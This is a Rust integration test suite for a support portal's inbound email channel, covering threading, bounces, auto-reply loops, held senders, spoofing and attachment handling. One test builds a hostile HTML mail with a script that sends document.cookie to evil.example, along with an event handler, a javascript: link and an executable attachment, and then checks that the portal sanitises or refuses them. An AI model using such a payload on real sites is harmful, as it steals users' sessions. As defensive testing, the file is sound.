//! The email channel through the inbound hook, against a real portal-core on
//! loopback: threading, sender matching, automatic mail, hostile mail,
//! attachments and the outbox. (The same ingest runs behind IMAP; see
//! `mail_servers.rs` for real IMAP and SMTP servers.)

mod common;

use std::sync::Arc;

use common::*;
use portico_model::email::DeliveryStatus;
use portico_model::*;
use portico_portal::mail::{MailIdentity, MailSettings};
use portico_portal::seed::SeedSize;
use serde_json::{Value, json};

const SECRET: &str = "hook-secret-for-tests";

async fn server() -> TestServer {
    TestServer::start_configured(SeedSize::TINY, |state| {
        let identity = MailIdentity::new("support@portico.test", "Portico Support");
        portico_portal::mail::outbox::configure(&state.store, &identity).unwrap();
        state.mail = Some(Arc::new(MailSettings {
            identity,
            hook_secret: Some(SECRET.into()),
        }));
    })
    .await
}

async fn post_mail(s: &TestServer, raw: &[u8]) -> Value {
    let resp = reqwest::Client::new()
        .post(s.url("/v1/mail/inbound"))
        .bearer_auth(SECRET)
        .header("content-type", "message/rfc822")
        .body(raw.to_vec())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 202, "the hook takes every mail it can read");
    json(resp).await
}

fn mail(from: &str, subject: &str, message_id: &str, extra_headers: &str, body: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: support@portico.test\r\nSubject: {subject}\r\nMessage-ID: <{message_id}>\r\nDate: Sun, 15 Nov 2026 12:00:00 +0000\r\n{extra_headers}\r\n{body}\r\n"
    )
    .into_bytes()
}

fn conversation(s: &TestServer, id: &str) -> Conversation {
    s.records::<Conversation>(&format!("id = '{id}'"))
        .pop()
        .expect("conversation stored")
}

fn messages(s: &TestServer, conv: &str) -> Vec<Message> {
    s.records::<Message>(&format!("conversation_id = '{conv}'"))
}

fn count(s: &TestServer, sql: &str) -> i64 {
    s.state
        .store
        .read(|c| Ok(c.query_row(sql, [], |r| r.get(0))?))
        .unwrap()
}

#[tokio::test]
async fn mail_from_a_user_opens_an_email_conversation_on_their_account_and_replies_join_it() {
    let s = server().await;
    let acme = s.acme();
    let first = post_mail(
        &s,
        &mail(
            "Acme Admin <admin@acme.test>",
            "Export fails",
            "m1@acme.test",
            "",
            "Hello,\r\nexports fail since today.",
        ),
    )
    .await;
    assert_eq!(first["disposition"], "conversation", "{first}");
    let conv_id = first["conversation_id"].as_str().unwrap().to_owned();
    let conv = conversation(&s, &conv_id);
    assert_eq!(conv.account_id, acme.id, "placed on the sender's account");
    assert_eq!(conv.channel, Channel::Email);
    assert_eq!(conv.subject, "Export fails");
    // The demo desk's rules, as for a chat: Acme is a key account (high
    // priority, tagged vip), everything else goes to Frontline, SLA by plan.
    assert_eq!(conv.priority, Priority::High, "routing rules ran");
    assert!(conv.tags.contains(&"vip".to_owned()));
    assert!(conv.team_id.is_some(), "routed to a team");
    assert!(
        conv.sla.is_some() && conv.sla_policy_id.is_some(),
        "the SLA clock started"
    );
    let msgs = messages(&s, &conv_id);
    assert_eq!(msgs.len(), 1);
    assert_eq!(msgs[0].kind, MessageKind::Customer);
    assert_eq!(msgs[0].body, "Hello,\nexports fail since today.");
    let email = msgs[0].email.as_ref().expect("email parts kept");
    assert_eq!(email.from, "admin@acme.test");
    assert_eq!(email.message_id, "m1@acme.test");

    // The same mail again (a provider retry): nothing new.
    let before = s.fingerprint();
    let again = post_mail(
        &s,
        &mail(
            "Acme Admin <admin@acme.test>",
            "Export fails",
            "m1@acme.test",
            "",
            "Hello,\r\nexports fail since today.",
        ),
    )
    .await;
    assert_eq!(again["disposition"], "duplicate");
    assert_eq!(again["conversation_id"], conv_id.as_str());
    assert_eq!(s.fingerprint(), before, "a duplicate writes nothing");

    // A follow-up answering the first mail joins the conversation, with its quote cut.
    s.clock.advance(jiff::SignedDuration::from_secs(60));
    let reply = post_mail(&s, &mail("admin@acme.test", "Re: Export fails", "m2@acme.test", "In-Reply-To: <m1@acme.test>\r\nReferences: <m1@acme.test>\r\n",
        "Also CSV.\r\n\r\nOn Sun, 15 Nov 2026, Acme Admin wrote:\r\n> Hello,\r\n> exports fail since today.")).await;
    assert_eq!(reply["disposition"], "reply", "{reply}");
    assert_eq!(reply["conversation_id"], conv_id.as_str());
    let msgs = messages(&s, &conv_id);
    assert_eq!(msgs.len(), 2);
    assert_eq!(msgs[1].body, "Also CSV.");
    assert!(
        msgs[1]
            .email
            .as_ref()
            .unwrap()
            .quoted
            .as_deref()
            .unwrap()
            .contains("> exports fail")
    );
    s.stop().await;
}

#[tokio::test]
async fn agent_reply_is_queued_with_threading_and_a_bounce_marks_it() {
    let s = server().await;
    let first = post_mail(
        &s,
        &mail(
            "admin@acme.test",
            "Invoice wrong",
            "inv1@acme.test",
            "",
            "The invoice total is wrong.",
        ),
    )
    .await;
    let conv_id = first["conversation_id"].as_str().unwrap().to_owned();
    let agent = s.client_as("agent@portico.test").await;
    s.clock.advance(jiff::SignedDuration::from_secs(60));
    let id = uuid::Uuid::now_v7();
    let body = json!({ "id": id, "body": "We are on it." });
    for expected in [201, 200] {
        let resp = agent
            .post(s.url(&format!("/v1/conversations/{conv_id}/messages")))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(
            resp.status(),
            expected,
            "a retried send (offline push) is the same message"
        );
    }
    assert_eq!(
        count(&s, "SELECT count(*) FROM mail_outbound"),
        1,
        "queued once, however often it is retried"
    );
    let reply: Message = s.records::<Message>(&format!("id = '{id}'")).pop().unwrap();
    let email = reply.email.as_ref().expect("outgoing envelope");
    assert_eq!(email.to, vec!["admin@acme.test"]);
    assert_eq!(email.subject, "Re: Invoice wrong");
    assert!(email.message_id.ends_with("@portico.test"));
    assert_eq!(
        reply.delivery.as_ref().unwrap().status,
        DeliveryStatus::Queued
    );
    let (irt, refs): (Option<String>, String) = s
        .state
        .store
        .read(|c| {
            Ok(
                c.query_row("SELECT in_reply_to, refs FROM mail_outbound", [], |r| {
                    Ok((r.get(0)?, r.get(1)?))
                })?,
            )
        })
        .unwrap();
    assert_eq!(irt.as_deref(), Some("inv1@acme.test"));
    assert_eq!(refs, "inv1@acme.test");
    // The customer's view of the message does not include delivery (staff only).
    let customer = s.client_as("admin@acme.test").await;
    let page = json(
        customer
            .get(s.url(&format!("/v1/conversations/{conv_id}/messages")))
            .send()
            .await
            .unwrap(),
    )
    .await;
    let seen = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == id.to_string().as_str())
        .unwrap();
    assert!(
        seen.get("delivery").is_none(),
        "delivery is for staff: {seen}"
    );

    // The recipient's server returns it: the reply shows as bounced.
    let dsn = format!(
        "From: MAILER-DAEMON@mx.acme.test\r\nTo: support@portico.test\r\nSubject: Undelivered Mail Returned to Sender\r\nMessage-ID: <dsn1@mx.acme.test>\r\nAuto-Submitted: auto-replied\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nNo such user.\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.acme.test\r\n\r\nFinal-Recipient: rfc822; admin@acme.test\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 mailbox unavailable\r\n--b\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <{}>\r\nSubject: Re: Invoice wrong\r\n--b--\r\n",
        email.message_id
    );
    let msgs_before = messages(&s, &conv_id).len();
    let out = post_mail(&s, dsn.as_bytes()).await;
    assert_eq!(out["disposition"], "bounce", "{out}");
    let reply: Message = s.records::<Message>(&format!("id = '{id}'")).pop().unwrap();
    let d = reply.delivery.unwrap();
    assert_eq!(d.status, DeliveryStatus::Bounced);
    assert!(d.error.unwrap().contains("5.1.1"));
    assert_eq!(
        messages(&s, &conv_id).len(),
        msgs_before,
        "a bounce adds no message"
    );
    s.stop().await;
}

#[tokio::test]
async fn automatic_mail_opens_nothing_and_is_never_answered() {
    let s = server().await;
    let first = post_mail(
        &s,
        &mail(
            "admin@acme.test",
            "Question",
            "q1@acme.test",
            "",
            "How do I add a seat?",
        ),
    )
    .await;
    let conv_id = first["conversation_id"].as_str().unwrap().to_owned();
    let agent = s.client_as("agent@portico.test").await;
    let resp = agent
        .post(s.url(&format!("/v1/conversations/{conv_id}/messages")))
        .json(&json!({ "body": "Settings > Seats." }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 201);
    let ours: String = s
        .state
        .store
        .read(|c| {
            Ok(c.query_row(
                "SELECT header_id FROM mail_threads WHERE header_id LIKE '%@portico.test'",
                [],
                |r| r.get(0),
            )?)
        })
        .unwrap();
    let conversations = count(&s, "SELECT count(*) FROM conversations");
    let outbound = count(&s, "SELECT count(*) FROM mail_outbound");
    // An out-of-office answering our reply, ten times over (a loop attempt),
    // a list mail and a Precedence: bulk newsletter.
    for i in 0..10 {
        let out = post_mail(
            &s,
            &mail(
                "admin@acme.test",
                "Automatic reply: Question",
                &format!("ooo{i}@acme.test"),
                &format!("Auto-Submitted: auto-replied\r\nIn-Reply-To: <{ours}>\r\n"),
                "I am out of the office.",
            ),
        )
        .await;
        assert_eq!(out["disposition"], "auto_reply", "{out}");
    }
    let out = post_mail(
        &s,
        &mail(
            "news@lists.test",
            "Weekly",
            "n1@lists.test",
            "List-Id: <weekly.lists.test>\r\n",
            "News",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "list");
    let out = post_mail(
        &s,
        &mail(
            "admin@acme.test",
            "Promo",
            "p1@acme.test",
            "Precedence: bulk\r\n",
            "Buy",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "list");
    let out = post_mail(
        &s,
        &mail(
            "Support <support@portico.test>",
            "Re: Question",
            "own1@portico.test",
            "",
            "Loop",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "own");
    assert_eq!(
        count(&s, "SELECT count(*) FROM conversations"),
        conversations,
        "no conversation from automatic mail"
    );
    assert_eq!(
        count(&s, "SELECT count(*) FROM mail_outbound"),
        outbound,
        "nothing sent back: no loop"
    );
    assert_eq!(
        messages(&s, &conv_id).len(),
        2,
        "auto-replies add no message"
    );
    s.stop().await;
}

#[tokio::test]
async fn unknown_senders_are_held_until_staff_link_them_and_domains_place_colleagues() {
    let s = server().await;
    let acme = s.acme();
    // A colleague who is not a portal user, on Acme's verified domain.
    let out = post_mail(
        &s,
        &mail(
            "Jane Roe <jane@acme.test>",
            "Login loop",
            "j1@acme.test",
            "",
            "I cannot log in.",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "conversation", "{out}");
    let conv = conversation(&s, out["conversation_id"].as_str().unwrap());
    assert_eq!(conv.account_id, acme.id);
    let msg = &messages(&s, &conv.id.to_string())[0];
    assert_eq!(msg.author_name, "Jane Roe <jane@acme.test>");
    assert_eq!(
        msg.author_id, None,
        "not a portal user; none is created for her"
    );

    // A stranger: held, not a conversation.
    let conversations = count(&s, "SELECT count(*) FROM conversations");
    let out = post_mail(
        &s,
        &mail(
            "Sam <sam@stranger.example>",
            "Pricing?",
            "s1@stranger.example",
            "",
            "What does Team cost?",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "held", "{out}");
    assert_eq!(
        count(&s, "SELECT count(*) FROM conversations"),
        conversations
    );
    let agent = s.client_as("agent@portico.test").await;
    let list = json(agent.get(s.url("/v1/mail/contacts")).send().await.unwrap()).await;
    let held = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["email"] == "sam@stranger.example")
        .expect("listed for staff")
        .clone();
    assert_eq!(held["held"], 1);
    assert_eq!(held["latest_subject"], "Pricing?");
    let customer = s.client_as("admin@acme.test").await;
    expect_error(
        customer
            .get(s.url("/v1/mail/contacts"))
            .send()
            .await
            .unwrap(),
        403,
        "forbidden",
    )
    .await;
    // Staff link Sam to Acme: the held mail becomes a conversation there.
    let resp = agent
        .post(s.url(&format!(
            "/v1/mail/contacts/{}/link",
            held["id"].as_str().unwrap()
        )))
        .json(&json!({ "account_id": acme.id }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let placed = json(resp).await;
    assert_eq!(
        placed["placed"][0]["disposition"], "conversation",
        "{placed}"
    );
    assert_eq!(
        conversation(&s, placed["placed"][0]["conversation_id"].as_str().unwrap()).account_id,
        acme.id
    );
    // And Sam's next mail goes to Acme directly.
    let out = post_mail(
        &s,
        &mail(
            "sam@stranger.example",
            "Another",
            "s2@stranger.example",
            "",
            "One more.",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "conversation");
    s.stop().await;
}

#[tokio::test]
async fn spoofed_senders_and_cross_account_threads_are_not_trusted() {
    let s = server().await;
    let acme = s.acme();
    let other = s.other_account();
    let other_user = s.user_with_role(Role::CustomerAdmin, Some(other.id));
    // A From of another account's domain that the receiving server says is forged.
    let out = post_mail(&s, &mail(&format!("CEO <ceo@{}>", other.domain), "Wire the money", "spoof1@evil.example",
        &format!("Authentication-Results: mx.portico.test; spf=fail smtp.mailfrom={d}; dkim=none; dmarc=fail header.from={d}\r\n", d = other.domain),
        "Urgent.")).await;
    assert_eq!(
        out["disposition"], "held",
        "a forged From is never placed on the account: {out}"
    );
    assert!(out["detail"].as_str().unwrap().contains("DMARC"));
    assert_eq!(
        s.records::<Conversation>(&format!(
            "account_id = '{}' AND data ->> '$.subject' = 'Wire the money'",
            other.id
        ))
        .len(),
        0
    );

    // Acme's thread, answered by another account's user (a leaked Message-ID):
    // a new conversation on their own account, Acme's thread untouched.
    let first = post_mail(
        &s,
        &mail(
            "admin@acme.test",
            "Private",
            "priv1@acme.test",
            "",
            "Acme internal matter.",
        ),
    )
    .await;
    let acme_conv = first["conversation_id"].as_str().unwrap().to_owned();
    let out = post_mail(
        &s,
        &mail(
            &other_user.email,
            "Re: Private",
            "x1@other.test",
            "In-Reply-To: <priv1@acme.test>\r\nReferences: <priv1@acme.test>\r\n",
            "Let me in.",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "conversation", "{out}");
    assert_ne!(out["conversation_id"], acme_conv.as_str());
    assert_eq!(
        conversation(&s, out["conversation_id"].as_str().unwrap()).account_id,
        other.id
    );
    assert_eq!(
        messages(&s, &acme_conv).len(),
        1,
        "nothing added to Acme's conversation"
    );
    assert_eq!(conversation(&s, &acme_conv).account_id, acme.id);
    s.stop().await;
}

#[tokio::test]
async fn hostile_content_is_defused_and_nothing_is_lost() {
    let s = server().await;
    // Script in HTML, a PDF, an executable.
    let pdf = "JVBERi0xLjQKJcfsj6IKMSAwIG9iago8PD4+CmVuZG9iagp0cmFpbGVyCjw8Pj4KJSVFT0YK";
    let raw = format!(
        "From: admin@acme.test\r\nTo: support@portico.test\r\nSubject: Look\r\nMessage-ID: <h1@acme.test>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--alt\r\nContent-Type: text/html\r\n\r\n<p onmouseover=\"steal()\">See <b>attached</b><script>fetch('https://evil.example/'+document.cookie)</script><img src=\"https://evil.example/pixel.gif\"><a href=\"javascript:alert(1)\">x</a></p>\r\n--alt--\r\n--mix\r\nContent-Type: application/pdf; name=\"report.pdf\"\r\nContent-Disposition: attachment; filename=\"report.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdf}\r\n--mix\r\nContent-Type: application/octet-stream; name=\"invoice.pdf.exe\"\r\nContent-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--mix--\r\n"
    );
    let out = post_mail(&s, raw.as_bytes()).await;
    assert_eq!(out["disposition"], "conversation", "{out}");
    let msg = messages(&s, out["conversation_id"].as_str().unwrap()).remove(0);
    let email = msg.email.unwrap();
    let html = email.html.unwrap();
    assert!(
        !html.contains("script")
            && !html.contains("onmouseover")
            && !html.contains("evil.example")
            && !html.contains("javascript"),
        "sanitized: {html}"
    );
    assert!(html.contains("<b>attached</b>"));
    let pdf_att = email
        .attachments
        .iter()
        .find(|a| a.filename == "report.pdf")
        .unwrap();
    assert!(pdf_att.stored);
    let exe = email
        .attachments
        .iter()
        .find(|a| a.filename == "invoice.pdf.exe")
        .unwrap();
    assert!(!exe.stored && exe.refused.as_deref().unwrap().contains("executable"));
    assert!(email.notes.iter().any(|n| n.contains("invoice.pdf.exe")));
    // The PDF downloads for the account and staff, as an attachment, and not for others.
    let customer = s.client_as("admin@acme.test").await;
    let resp = customer
        .get(s.url(&format!("/v1/attachments/{}", pdf_att.id)))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["content-type"], "application/pdf");
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
    assert!(resp.bytes().await.unwrap().starts_with(b"%PDF-1.4"));
    let other = s.other_account();
    let stranger = s.user_with_role(Role::CustomerAdmin, Some(other.id));
    let outsider = s.client_as(&stranger.email).await;
    expect_error(
        outsider
            .get(s.url(&format!("/v1/attachments/{}", pdf_att.id)))
            .send()
            .await
            .unwrap(),
        404,
        "not_found",
    )
    .await;
    expect_error(
        customer
            .get(s.url(&format!("/v1/attachments/{}", exe.id)))
            .send()
            .await
            .unwrap(),
        404,
        "not_found",
    )
    .await;

    // Malformed MIME: an unterminated multipart with broken base64 still
    // becomes a conversation with what could be read.
    let broken = b"From: admin@acme.test\r\nSubject: broken\r\nMessage-ID: <b1@acme.test>\r\nContent-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n--zz\r\nContent-Type: text/plain; charset=no-such-charset\r\n\r\nstill readable\r\n--zz\r\nContent-Type: image/png; name=\"x.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!";
    let out = post_mail(&s, broken).await;
    assert_eq!(out["disposition"], "conversation", "{out}");
    assert!(
        messages(&s, out["conversation_id"].as_str().unwrap())[0]
            .body
            .contains("still readable")
    );
    // Not a mail at all: logged (bytes kept) as rejected, nothing else.
    let conversations = count(&s, "SELECT count(*) FROM conversations");
    let out = post_mail(&s, b"\x00\x01\x02 binary junk without headers").await;
    assert_eq!(out["disposition"], "rejected", "{out}");
    assert_eq!(
        count(&s, "SELECT count(*) FROM conversations"),
        conversations
    );
    assert_eq!(
        count(
            &s,
            "SELECT count(*) FROM mail_inbound WHERE disposition = 'rejected' AND length(raw) > 0"
        ),
        1,
        "its bytes are kept"
    );
    s.stop().await;
}

#[tokio::test]
async fn a_50_mb_attachment_is_not_stored_but_the_mail_is_taken() {
    let s = server().await;
    let mut raw = b"From: admin@acme.test\r\nTo: support@portico.test\r\nSubject: Huge log\r\nMessage-ID: <big1@acme.test>\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nLog attached.\r\n--b\r\nContent-Type: application/octet-stream; name=\"huge.log\"\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    let line = b"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\r\n";
    while raw.len() < 50 * 1024 * 1024 {
        raw.extend_from_slice(line);
    }
    raw.extend_from_slice(b"--b--\r\n");
    let out = post_mail(&s, &raw).await;
    assert_eq!(out["disposition"], "conversation", "{out}");
    let msg = messages(&s, out["conversation_id"].as_str().unwrap()).remove(0);
    assert_eq!(msg.body, "Log attached.");
    let email = msg.email.unwrap();
    assert!(
        email.attachments.iter().all(|a| !a.stored),
        "nothing of a truncated mail is stored as a file"
    );
    assert!(
        email
            .notes
            .iter()
            .any(|n| n.contains("over the 30 MB limit")),
        "{:?}",
        email.notes
    );
    assert_eq!(count(&s, "SELECT count(*) FROM mail_attachments"), 0);
    let (size, kept, truncated): (i64, i64, bool) = s.state.store.read(|c| Ok(c.query_row(
        "SELECT size, length(raw), truncated FROM mail_inbound WHERE dedupe_key = 'big1@acme.test'", [], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))?)).unwrap();
    assert!(size >= 50 * 1024 * 1024 && truncated);
    assert_eq!(
        kept as usize,
        portico_portal::mail::HEAD_BYTES,
        "the head is kept"
    );
    s.stop().await;
}

#[tokio::test]
async fn the_hook_wants_its_secret() {
    let s = server().await;
    let c = reqwest::Client::new();
    let resp = c
        .post(s.url("/v1/mail/inbound"))
        .body("From: a@b.test\r\n\r\nx")
        .send()
        .await
        .unwrap();
    expect_error(resp, 401, "unauthenticated").await;
    let resp = c
        .post(s.url("/v1/mail/inbound"))
        .bearer_auth("wrong")
        .body("From: a@b.test\r\n\r\nx")
        .send()
        .await
        .unwrap();
    expect_error(resp, 401, "unauthenticated").await;
    let resp = c
        .post(s.url("/v1/mail/inbound"))
        .bearer_auth(SECRET)
        .body("")
        .send()
        .await
        .unwrap();
    expect_error(resp, 422, "validation_failed").await;
    s.stop().await;
    // Without mail configured the route answers as unknown.
    let plain = TestServer::start().await;
    let resp = c
        .post(plain.url("/v1/mail/inbound"))
        .bearer_auth(SECRET)
        .body("From: a@b.test\r\n\r\nx")
        .send()
        .await
        .unwrap();
    expect_error(resp, 404, "not_found").await;
    plain.stop().await;
}

#[tokio::test]
async fn staff_verify_domains_but_not_public_mail_providers() {
    let s = server().await;
    let acme = s.acme();
    let admin = s.client_as("admin@portico.test").await;
    let resp = admin
        .put(s.url("/v1/mail/domains/gmail.com"))
        .json(&json!({ "account_id": acme.id }))
        .send()
        .await
        .unwrap();
    expect_error(resp, 422, "validation_failed").await;
    let resp = admin
        .put(s.url("/v1/mail/domains/Acme-Corp.example"))
        .json(&json!({ "account_id": acme.id }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let out = post_mail(
        &s,
        &mail(
            "bo@acme-corp.example",
            "Hi",
            "d1@acme-corp.example",
            "",
            "From the other domain.",
        ),
    )
    .await;
    assert_eq!(
        conversation(&s, out["conversation_id"].as_str().unwrap()).account_id,
        acme.id
    );
    let customer = s.client_as("admin@acme.test").await;
    let resp = customer
        .put(s.url("/v1/mail/domains/evil.example"))
        .json(&json!({ "account_id": acme.id }))
        .send()
        .await
        .unwrap();
    expect_error(resp, 403, "forbidden").await;
    let resp = admin
        .delete(s.url("/v1/mail/domains/acme-corp.example"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 204);
    let out = post_mail(
        &s,
        &mail(
            "bo@acme-corp.example",
            "Hi again",
            "d2@acme-corp.example",
            "",
            "Again.",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "held");
    s.stop().await;
}

#[tokio::test]
async fn a_reply_written_offline_goes_out_once_when_pushed() {
    let s = server().await;
    let first = post_mail(
        &s,
        &mail(
            "admin@acme.test",
            "Offline",
            "off1@acme.test",
            "",
            "Anyone there?",
        ),
    )
    .await;
    let conv_id = first["conversation_id"].as_str().unwrap().to_owned();
    let agent = s.client_as("agent@portico.test").await;
    s.clock.advance(jiff::SignedDuration::from_secs(60));
    let message_id = uuid::Uuid::now_v7();
    let batch = json!({
        "protocol": portico_model::sync::SYNC_PROTOCOL,
        "client_id": uuid::Uuid::now_v7(),
        "mutations": [{ "id": 1, "op": { "type": "reply", "conversation_id": conv_id, "message_id": message_id, "body": "Written on the train." } }]
    });
    // The desktop comes back online and pushes; the answer is lost; it pushes again.
    for _ in 0..3 {
        let resp = agent
            .post(s.url("/v1/sync/push"))
            .json(&batch)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
    }
    assert_eq!(
        count(
            &s,
            &format!("SELECT count(*) FROM mail_outbound WHERE message_id = '{message_id}'")
        ),
        1,
        "queued once"
    );
    let reply: Message = s
        .records::<Message>(&format!("id = '{message_id}'"))
        .pop()
        .unwrap();
    assert_eq!(reply.delivery.unwrap().status, DeliveryStatus::Queued);
    assert_eq!(reply.email.unwrap().to, vec!["admin@acme.test"]);
    s.stop().await;
}

#[tokio::test]
async fn a_mail_that_cannot_be_placed_is_kept_as_rejected() {
    let s = server().await;
    // A user whose account is gone (inconsistent data): placing fails inside
    // the write path; the mail must still be kept, not bounced back as an error.
    let mut ghost = s.user_with_role(Role::CustomerMember, Some(s.acme().id));
    ghost.id = UserId(uuid::Uuid::now_v7());
    ghost.email = "ghost@nowhere.test".into();
    ghost.account_id = Some(AccountId(uuid::Uuid::now_v7()));
    let data = serde_json::to_string(&ghost).unwrap();
    s.state
        .store
        .write_raw(|c| {
            c.execute(
                "INSERT INTO users (id, account_id, version, data) VALUES (?1, ?2, 1, ?3)",
                rusqlite::params![
                    ghost.id.to_string(),
                    ghost.account_id.unwrap().to_string(),
                    data
                ],
            )?;
            Ok(())
        })
        .unwrap();
    let conversations = count(&s, "SELECT count(*) FROM conversations");
    let out = post_mail(
        &s,
        &mail(
            "ghost@nowhere.test",
            "Boo",
            "ghost1@nowhere.test",
            "",
            "Hello?",
        ),
    )
    .await;
    assert_eq!(out["disposition"], "rejected", "{out}");
    assert!(
        out["detail"]
            .as_str()
            .unwrap()
            .contains("could not be placed"),
        "{out}"
    );
    assert_eq!(
        count(&s, "SELECT count(*) FROM conversations"),
        conversations,
        "nothing half-written"
    );
    assert_eq!(
        count(
            &s,
            "SELECT count(*) FROM mail_inbound WHERE disposition = 'rejected' AND instr(raw, 'ghost1@nowhere.test') > 0"
        ),
        1,
        "the mail is kept with its bytes"
    );
    s.stop().await;
}

#[tokio::test]
async fn attachments_follow_team_access() {
    let s = server().await;
    let raw = "From: admin@acme.test\r\nTo: support@portico.test\r\nSubject: Screenshot\r\nMessage-ID: <shot1@acme.test>\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nSee the screenshot.\r\n--m\r\nContent-Type: image/png; name=\"shot.png\"\r\nContent-Disposition: attachment; filename=\"shot.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--m--\r\n";
    let out = post_mail(&s, raw.as_bytes()).await;
    let conv = conversation(&s, out["conversation_id"].as_str().unwrap());
    let msg = messages(&s, &conv.id.to_string()).remove(0);
    let att = msg.email.unwrap().attachments.remove(0);
    assert!(att.stored);
    // Kai works Billing only; the mail went elsewhere.
    let kai = s
        .records::<User>("email = 'kai@portico.test'")
        .pop()
        .unwrap();
    assert!(
        conv.team_id.is_some_and(|t| !kai.team_ids.contains(&t))
            && conv.assignee_id != Some(kai.id)
    );
    let admin = s.client_as("admin@portico.test").await;
    let r = admin
        .patch(s.url(&format!("/v1/users/{}/access", kai.id)))
        .json(&json!({ "conversation_access": "teams" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let url = s.url(&format!("/v1/attachments/{}", att.id));
    let kai_client = s.client_as("kai@portico.test").await;
    expect_error(kai_client.get(&url).send().await.unwrap(), 404, "not_found").await;
    let agent = s.client_as("agent@portico.test").await;
    let r = agent.get(&url).send().await.unwrap();
    assert_eq!(
        r.status(),
        200,
        "an agent with access to every conversation gets it"
    );
    assert_eq!(r.headers()["content-type"], "image/png");
    s.stop().await;
}
